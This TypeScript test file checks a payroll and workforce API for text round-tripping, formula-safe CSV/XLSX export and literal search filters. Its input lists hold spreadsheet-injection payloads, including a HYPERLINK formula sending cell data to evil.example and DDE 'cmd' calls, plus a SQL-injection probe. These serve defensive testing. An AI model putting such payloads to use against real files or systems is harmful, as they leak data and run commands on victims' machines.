import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { type EmployeeFieldOf, factsOfField } from '@bulwagan/contracts/workforce/employee-fields.ts';
import { readCsv } from '@bulwagan/platform/exports/csv/csv-read.ts';
import { BOUNDS, cellsOf } from '@bulwagan/platform/exports/testing/tables.ts';
import { readXlsx } from '@bulwagan/platform/exports/xlsx/xlsx-read.ts';
import { PASSWORD, type Person, startWorkforce } from '@bulwagan/testing/workforce.ts';
import { EMPLOYEES, hire, JUAN } from '@bulwagan/workforce/employees/testing/employees.ts';
import { itemBody } from '@bulwagan/workforce/payroll-items/testing/payroll.ts';
import { NAUGHTY_TEXTS } from '../bad-input/values.ts';
import { exportFile, importFile, reportedBy } from './spreadsheets.ts';

const testApp = await startWorkforce({ after });
const admin = await testApp.superUser();

/** Texts that start like a formula, contain one after a delimiter, or look already escaped. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '+63 917 123 4567',
  '-Lipa',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  "'=1+1",
  "''-2",
  "'quoted'",
  '"=1"',
  ' =1',
  "x;=cmd|' /C calc'!A0;y",
  "x;'=1\t''-2\n+3",
  'x;""@1"',
];
/** A name must contain a visible character. */
const TEXTS = [
  ...NAUGHTY_TEXTS,
  ...FORMULAS,
  'a,b;c\td',
  '"',
  '""',
  'x\r\ny',
  '\rx\r',
  '_x000D_',
  '_x005F_x0041_',
].filter((text) => text.trim() !== '');
const MINE = [
  'middle_name',
  'birthplace',
  'distinguishing_marks',
  'permanent_address_1',
  'designation',
] as const;

const longest = (field: EmployeeFieldOf<'text'>) => factsOfField(field).maxLength;
/** Names are single-line without control characters; other texts may contain both. */
const onOneLine = (text: string) => text.replaceAll(/[\p{Cc}\u2028\u2029]/gu, ' ').trim() || 'x';
const NAMES: readonly string[] = ['first_name', 'last_name', 'middle_name'];
/** Returns an employee with the same text in every field, within the rules of each field. */
const bodyOf = (text: string) => ({
  ...JUAN,
  ...Object.fromEntries(
    ['first_name', 'last_name', ...MINE].map((field) => {
      const most = MINE.includes(field as never) ? longest(field as (typeof MINE)[number]) : text.length;
      const cut = text.slice(0, most).toWellFormed();
      return [field, NAMES.includes(field) ? onOneLine(cut) : cut];
    }),
  ),
});
const textsOf = (one: Record<string, unknown>) =>
  ['first_name', 'last_name', ...MINE].map((field) => one[field]);

test('contract: text is unchanged byte for byte after create, show, list, update and search', async () => {
  for (const text of TEXTS) {
    const body = bodyOf(text);
    const { id, ...made } = await hire(admin, body);
    assert.deepEqual(textsOf(made), textsOf(body), text);
    assert.deepEqual(textsOf((await admin.get(`${EMPLOYEES}/${id}`)).body.data), textsOf(body), text);
    const search = encodeURIComponent(onOneLine(text).slice(0, 255).toWellFormed());
    const found = (await admin.get(`${EMPLOYEES}?filter[search]=${search}&sort=-created_at`)).body.data;
    const own = found.find((one: { id: string }) => one.id === id);
    const name = onOneLine(text);
    assert.deepEqual([own?.first_name, own?.last_name], [name, name], `${text} was not found`);
    const changed = await admin.put(`${EMPLOYEES}/${id}`, { rank: text.slice(0, 255), is_military: true });
    if (text.length <= 255) assert.equal(changed.body.data.rank, text);
    await admin.delete(`${EMPLOYEES}/${id}`);
  }
});

test('contract: text is unchanged byte for byte after export and import, as CSV and as XLSX', async () => {
  const office = await testApp.organization('Of texts');
  for (const text of TEXTS) await hire(admin, { ...bodyOf(text), organization_id: office.id });
  const filter = `filter[organization_slug]=${office.slug}`;
  const detailed = async () => {
    const { data } = (await admin.get(`${EMPLOYEES}?${filter}&per_page=100`)).body;
    const all = await Promise.all(
      data.map(async ({ id }: { id: string }) => (await admin.get(`${EMPLOYEES}/${id}`)).body.data),
    );
    return all.map((one) => JSON.stringify(textsOf(one))).sort();
  };
  const before = await detailed();
  assert.equal(before.length, TEXTS.length);
  for (const format of ['csv', 'xlsx']) {
    const file = await exportFile(testApp, admin, `format=${format}&${filter}`);
    for (const { id } of (await admin.get(`${EMPLOYEES}?${filter}&per_page=100`)).body.data)
      await admin.delete(`${EMPLOYEES}/${id}`);
    const reply = await importFile(admin, file);
    assert.equal(reply.status, 201, reply.body.data && reportedBy(reply).join('\n'));
    assert.deepEqual(await detailed(), before, format);
  }
});

test('W§4: no cell of an export starts like a formula, whichever user entered the text', async () => {
  const office = await testApp.organization('=Office');
  const position = (await admin.post('/api/pms/positions', { name: '@Chief' })).body.data;
  for (const text of FORMULAS) {
    const { id } = await hire(admin, {
      ...bodyOf(text),
      organization_id: office.id,
      sss_number: text,
      email: null,
    });
    await admin.put(`${EMPLOYEES}/${id}`, { position_id: position.id, employee_number: text });
  }
  const filter = `filter[organization_slug]=${office.slug}`;
  const wide = { ...BOUNDS, mostColumns: 200 };
  const csv = await cellsOf(readCsv([await exportFile(testApp, admin, filter)], wide));
  assert.equal(csv.length, FORMULAS.length + 1);
  for (const cell of csv.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/);
  const workbook = await exportFile(testApp, admin, `format=xlsx&${filter}`);
  const rows = await cellsOf(readXlsx(workbook, wide));
  assert.equal(rows.length, csv.length);
  assert.ok(rows.flat().includes('=1+1'));
});

/** Lists with text filters, and the body that creates a record with a given name. */
const LISTS: [path: string, filters: string[], body: (name: string) => object][] = [
  ['/api/organizations', ['search'], (name) => ({ name })],
  ['/api/roles', ['search'], (name) => ({ name, permissions: [] })],
  ['/api/pms/positions', ['search'], (name) => ({ name })],
  ['/api/pms/employment_types', ['search'], (name) => ({ name })],
  ['/api/pms/timekeeping_policies', ['search'], (name) => ({ name })],
  ['/api/accounting/account_codes', ['search'], (name) => ({ name })],
  ['/api/payroll/payroll_types', ['search'], (name) => ({ name })],
  ['/api/payroll/rosters', ['search'], (name) => ({ name })],
  ['/api/payroll/payroll_items', ['search'], (name) => itemBody({ name })],
  [EMPLOYEES, ['search'], (name) => ({ ...JUAN, last_name: name })],
  [
    '/api/users',
    ['search', 'username'],
    (name) => ({
      name,
      username: name,
      email: `${name.length}.${name.charCodeAt(1)}.${name.charCodeAt(2)}@office.example`,
      password: PASSWORD,
      password_confirmation: PASSWORD,
    }),
  ],
];

async function foundBy(who: Person, path: string, filter: string, text: string): Promise<string[]> {
  const { status, body } = await who.get(`${path}?filter[${filter}]=${encodeURIComponent(text)}`);
  assert.equal(status, 200, `${path} ${text}`);
  assert.equal(body.meta.total, body.data.length);
  return body.data.map((one: { name?: string; last_name?: string }) => one.last_name ?? one.name).sort();
}

test('contract: percent sign, underscore and backslash in a filter match only themselves', async () => {
  const names = ['ZxZ', 'Z%Z', 'Z_Z', 'Z\\Z', 'Z\\%Z', "Z'Z", 'Z％Z'];
  const wanted: [text: string, names: string[]][] = [
    ['Z%Z', ['Z%Z', 'Z％Z']],
    ['z_z', ['Z_Z']],
    ['Z\\Z', ['Z\\Z']],
    ['Z\\%Z', ['Z\\%Z']],
    ["Z'Z", ["Z'Z"]],
    ['%xZ', []],
    ['_x_', []],
    ['\\xZ', []],
    ['Z\\_Z', []],
    ["' or 1=1 --", []],
  ];
  for (const [path, filters, bodyFor] of LISTS) {
    // Unique names treat full-width characters as equal; only employees and organizations may share a name.
    const own = path === EMPLOYEES || path === '/api/organizations' ? names : names.slice(0, -1);
    for (const name of own) {
      const reply = await admin.post(path, bodyFor(name));
      assert.equal(reply.status, 201, `${path} ${name} ${reply.text}`);
    }
    for (const filter of filters)
      for (const [text, expected] of wanted)
        assert.deepEqual(
          await foundBy(admin, path, filter, text),
          expected.filter((name) => own.includes(name)).sort(),
          `${path} ${filter} ${text}`,
        );
  }
});

test('contract: an exact filter does not treat its value as a pattern', async () => {
  for (const path of [
    '/api/payroll/payroll_items?filter[category]=',
    '/api/payroll/runs?filter[status]=',
    `${EMPLOYEES}?filter[organization_slug]=`,
    `${EMPLOYEES}?filter[employment_type]=`,
  ])
    for (const text of ['%', '_', '\\', "'", 'e%', 'null', '{}', '*', '.*', '[a-z]+', '🙂'])
      assert.deepEqual((await admin.get(`${path}${encodeURIComponent(text)}`)).body.data, [], path + text);
});
